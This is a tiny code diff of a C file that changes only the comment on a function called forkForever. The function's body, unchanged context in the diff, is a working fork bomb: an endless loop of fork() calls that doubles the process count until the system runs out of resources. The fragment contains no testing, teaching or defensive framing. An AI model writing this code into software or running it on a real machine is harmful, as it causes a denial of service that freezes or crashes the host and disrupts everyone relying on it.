@@ -1,7 +1,7 @@
 #define _GNU_SOURCE
 #include <unistd.h>
 
-/// Twice as many each time, as long as the system gives any.
+/// Doubles the number of processes again and again.
 int forkForever(void) {
   for (;;)
     fork();
